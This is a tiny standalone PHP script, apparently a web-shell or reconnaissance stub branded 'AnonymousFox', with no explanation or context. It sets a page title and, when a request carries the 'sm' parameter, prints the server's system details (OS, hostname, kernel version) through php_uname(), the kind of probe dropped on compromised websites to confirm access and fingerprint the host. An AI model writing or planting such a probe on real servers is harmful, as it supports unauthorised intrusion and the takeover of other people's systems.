<?php
// AnonymousFox
echo '<title>AnonymousFox</title>';
if(isset($_GET['sm'])){ echo php_uname(); }
